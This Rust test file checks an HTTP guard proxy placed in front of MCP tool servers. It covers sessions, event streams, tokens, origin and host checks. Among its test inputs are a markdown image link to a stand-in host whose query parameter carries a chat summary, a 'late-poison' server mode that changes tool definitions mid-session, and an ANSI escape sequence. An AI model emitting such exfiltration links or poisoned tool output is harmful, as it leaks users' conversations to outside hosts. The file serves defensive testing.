//! The guard as an HTTP server in front of an HTTP server.

use std::io::{BufRead, BufReader, Read, Write};
use std::net::TcpStream;
use std::process::{Child, Command, Stdio};
use std::time::Duration;

use serde_json::{Value, json};
use warden_testkit::HttpServer;

use crate::harness::{World, warden_bin};

/// The guard and what stands behind it.
struct Front {
    child: Child,
    port: u16,
    server: HttpServer,
    _world: World,
}

impl Drop for Front {
    fn drop(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

/// A response.
struct Response {
    status: u16,
    head: String,
    body: String,
}

impl Response {
    fn json(&self) -> Value {
        serde_json::from_str(&self.body).unwrap_or_else(|e| panic!("{e}: {}", self.body))
    }

    fn header(&self, name: &str) -> Option<&str> {
        let lines = self.head.lines().filter_map(|l| l.split_once(": "));
        lines.filter(|(k, _)| k.eq_ignore_ascii_case(name)).map(|(_, v)| v).next()
    }

    /// The data of its events.
    fn events(&self) -> Vec<Value> {
        let data = self.body.lines().filter_map(|l| l.strip_prefix("data: "));
        data.map(|d| serde_json::from_str(d).expect("JSON")).collect()
    }
}

impl Front {
    fn start(mode: &str, more: &[&str]) -> Option<Self> {
        let evil = warden_testkit::evil().ok()?;
        let server = HttpServer::start(&evil, mode).expect("it listens");
        let world = World::new();
        let mut child = Command::new(warden_bin())
            .args(["wrap", "--url", &server.url(), "--listen", "127.0.0.1:0"])
            .args(more)
            .env("HOME", world.home())
            .env("GUARD_TOKEN", "open-sesame-open-sesame")
            .stdin(Stdio::null())
            .stderr(Stdio::piped())
            .spawn()
            .expect("starts");
        let mut lines = BufReader::new(child.stderr.take().expect("a pipe")).lines();
        let said = lines.find_map(|l| Some(l.ok()?.split_once("http://127.0.0.1:")?.1.to_owned()));
        let port = said.and_then(|s| s.trim_end_matches("/mcp").parse().ok()).expect("a port");
        std::thread::spawn(move || lines.for_each(drop));
        Some(Self { child, port, server, _world: world })
    }

    fn send(&self, method: &str, headers: &[(&str, &str)], body: &str) -> TcpStream {
        let mut stream = TcpStream::connect(("127.0.0.1", self.port)).expect("it listens");
        stream.set_read_timeout(Some(Duration::from_secs(30))).expect("set");
        // Version 1.0, so that bodies end with the connection.
        let mut text = format!("{method} /mcp HTTP/1.0\r\ncontent-length: {}\r\n", body.len());
        if !headers.iter().any(|(k, _)| *k == "host") {
            text.push_str("host: localhost\r\n");
        }
        if !headers.iter().any(|(k, _)| *k == "content-type") {
            text.push_str("content-type: Application/JSON ; charset=utf-8\r\n");
        }
        headers.iter().for_each(|(k, v)| text.push_str(&format!("{k}: {v}\r\n")));
        write!(stream, "{text}\r\n{body}").expect("written");
        stream
    }

    fn http(&self, method: &str, headers: &[(&str, &str)], body: &str) -> Response {
        let mut text = String::new();
        self.send(method, headers, body).read_to_string(&mut text).expect("a response");
        let (head, body) = text.split_once("\r\n\r\n").expect("a head");
        let status = head.split(' ').nth(1).and_then(|s| s.parse().ok()).expect("a status");
        Response { status, head: head.to_owned(), body: body.to_owned() }
    }

    fn post(&self, headers: &[(&str, &str)], message: &Value) -> Response {
        self.http("POST", headers, &message.to_string())
    }

    /// Begins a session; its id.
    fn session(&self) -> String {
        let hello =
            self.post(&[], &request(0, "initialize", json!({"protocolVersion": "2025-11-25"})));
        assert_eq!(hello.status, 200, "{}", hello.body);
        let id = hello.header("mcp-session-id").expect("a session").to_owned();
        let note = json!({"jsonrpc": "2.0", "method": "notifications/initialized"});
        assert_eq!(self.post(&[("mcp-session-id", &id)], &note).status, 202);
        id
    }
}

fn request(id: u32, method: &str, params: Value) -> Value {
    json!({"jsonrpc": "2.0", "id": id, "method": method, "params": params})
}

fn echo(id: u32, text: &str) -> Value {
    request(id, "tools/call", json!({"name": "echo", "arguments": {"text": text}}))
}

#[test]
fn a_session_passes_judged() {
    for mode in ["json", "sse", "odd-type", "resume"] {
        let Some(front) = Front::start(mode, &["--id", "web"]) else { return };
        let id = front.session();
        assert_ne!(id, "session-1", "the client's session is one with the guard");
        let with = [("mcp-session-id", id.as_str())];
        let list = front.post(&with, &request(1, "tools/list", json!({})));
        let answer = list.events().pop().unwrap_or_else(|| list.json());
        assert_eq!(answer["result"]["tools"].as_array().map(Vec::len), Some(2), "{mode}");
        let edited = front.post(&with, &echo(2, "a\u{1b}[2Jb"));
        let answer = edited.events().pop().unwrap_or_else(|| edited.json());
        assert_eq!(answer["result"]["content"][0]["text"], "ab", "{mode}");
        let link = "![s](https://img.badhost.test/p.png?d=SUMMARY_OF_CHAT)";
        let held = front.post(&with, &echo(3, link));
        assert!(!held.body.contains("SUMMARY_OF_CHAT"), "{mode}: {}", held.body);
        assert!(held.body.contains("-32001"), "{mode}: {}", held.body);
        assert_eq!(front.http("DELETE", &with, "").status, 200);
        assert_eq!(front.post(&with, &echo(4, "x")).status, 404, "the session is over");
    }
}

#[test]
fn what_an_event_stream_holds_is_judged_event_by_event() {
    // In this mode a notification stands in front of every answer.
    let Some(front) = Front::start("sse", &[]) else { return };
    let id = front.session();
    let list = front.post(&[("mcp-session-id", &id)], &request(1, "tools/list", json!({})));
    let events = list.events();
    assert_eq!(events.len(), 2, "{}", list.body);
    assert_eq!(events[0]["method"], "notifications/message");
    assert_eq!(events[1]["id"], 1);
    assert_eq!(list.header("content-type"), Some("text/event-stream"));
    assert!(list.body.starts_with("event: message\nid: "), "{}", list.body);
    let Some(front) = Front::start("sse+late-poison", &[]) else { return };
    let id = front.session();
    let with = [("mcp-session-id", id.as_str())];
    assert!(front.post(&with, &request(1, "tools/list", json!({}))).body.contains("\"result\""));
    let second = front.post(&with, &request(2, "tools/list", json!({})));
    assert!(second.body.contains("WRD-PIN-DRIFT"), "{}", second.body);
}

#[test]
fn strangers_are_turned_away() {
    let Some(front) = Front::start("json", &[]) else { return };
    let ping = request(1, "ping", json!({}));
    assert_eq!(front.post(&[("host", "rebound.test")], &ping).status, 403);
    assert_eq!(front.post(&[("origin", "https://evil.test")], &ping).status, 403);
    assert_eq!(front.post(&[("content-type", "text/plain")], &ping).status, 415);
    assert_eq!(front.http("POST", &[], "no JSON").status, 400);
    assert_eq!(front.post(&[("mcp-session-id", "guessed")], &ping).status, 404);
    assert_eq!(front.http("GET", &[], "").status, 405);
    assert_eq!(front.http("PUT", &[], "").status, 405);
    assert_eq!(front.server.requests().expect("it answers"), "", "nothing reached the server");
    let Some(front) = Front::start("stateless", &["--token-env", "GUARD_TOKEN"]) else { return };
    let refused = front.post(&[], &ping);
    assert_eq!((refused.status, refused.header("www-authenticate")), (401, Some("Bearer")));
    let token = ("authorization", "Bearer open-sesame-open-sesame");
    assert_eq!(front.post(&[token], &request(1, "tools/list", json!({}))).status, 200);
    let world = World::new();
    let args = ["wrap", "--url", "http://127.0.0.1:9/mcp", "--listen", "0.0.0.0:0"];
    world.run(&args).expect(2);
}

#[test]
fn the_stateless_era_needs_no_session() {
    let Some(front) = Front::start("modern", &[]) else { return };
    let meta = json!({"io.modelcontextprotocol/protocolVersion": "2026-07-28",
        "io.modelcontextprotocol/clientCapabilities": {}});
    let list = front.post(&[], &request(1, "tools/list", json!({"_meta": meta})));
    assert_eq!(list.status, 200, "{}", list.body);
    assert!(list.json()["result"]["tools"].is_array());
    assert!(list.header("mcp-session-id").is_none());
    let call = json!({"name": "echo", "arguments": {"text": "x"}, "_meta": meta});
    let result = front.post(&[], &request(1, "tools/call", call));
    assert_eq!(result.json()["result"]["content"][0]["text"], "x", "{}", result.body);
    let unknown = front.post(&[], &request(2, "no/such", json!({"_meta": meta})));
    assert_eq!((unknown.status, unknown.json()["error"]["code"].as_i64()), (404, Some(-32601)));
}

#[test]
fn credentials_of_the_client_go_on_and_their_lack_is_told() {
    let Some(front) = Front::start("token", &[]) else { return };
    let list = request(1, "tools/list", json!({}));
    let without = front.post(&[], &list);
    assert_eq!(without.status, 401, "{}", without.body);
    assert_eq!(without.json()["error"]["code"], -32002);
    let with = front.post(&[("authorization", "Bearer open-sesame")], &list);
    assert!(with.json()["result"]["tools"].is_array(), "{}", with.body);
    // Another client is not served from what this one was shown.
    assert_eq!(front.post(&[], &list).status, 401);
}

#[test]
fn requests_of_the_server_come_on_the_stream_of_their_cause() {
    let Some(front) = Front::start("asks", &[]) else { return };
    let id = front.session();
    let with = [("mcp-session-id", id.as_str())];
    let stream = front.send("POST", &with, &request(1, "tools/list", json!({})).to_string());
    let mut lines = BufReader::new(stream).lines();
    let asked = lines.find_map(|l| l.ok()?.strip_prefix("data: ").map(str::to_owned));
    assert!(asked.is_some_and(|a| a.contains("roots/list")));
    let roots = json!({"jsonrpc": "2.0", "id": "r", "result": {"roots": []}});
    assert_eq!(front.post(&with, &roots).status, 202);
    let answer = lines.find_map(|l| l.ok()?.strip_prefix("data: ").map(str::to_owned));
    assert!(answer.is_some_and(|a| a.contains("\"id\":1")));
}

#[test]
fn a_stream_that_broke_off_can_be_had_again() {
    let Some(front) = Front::start("asks", &[]) else { return };
    let id = front.session();
    let with = [("mcp-session-id", id.as_str())];
    let stream = front.send("POST", &with, &request(1, "tools/list", json!({})).to_string());
    let mut lines = BufReader::new(stream).lines();
    let event = lines.find_map(|l| l.ok()?.strip_prefix("id: ").map(str::to_owned)).expect("an id");
    // The client goes away; the request stays.
    drop(lines);
    let roots = json!({"jsonrpc": "2.0", "id": "r", "result": {"roots": []}});
    assert_eq!(front.post(&with, &roots).status, 202);
    let resumed = [("mcp-session-id", id.as_str()), ("last-event-id", event.as_str())];
    let rest = front.http("GET", &resumed, "");
    assert_eq!(rest.events().last().map(|e| e["id"].clone()), Some(json!(1)), "{}", rest.body);
}

#[test]
fn two_clients_do_not_mix() {
    let Some(front) = Front::start("json", &[]) else { return };
    let (a, b) = (front.session(), front.session());
    assert_ne!(a, b);
    std::thread::scope(|scope| {
        for (id, word) in [(&a, "one"), (&b, "two")] {
            let front = &front;
            scope.spawn(move || {
                for n in 1..20 {
                    let answer = front.post(&[("mcp-session-id", id)], &echo(n, word));
                    assert_eq!(answer.json()["result"]["content"][0]["text"], *word);
                }
            });
        }
    });
}
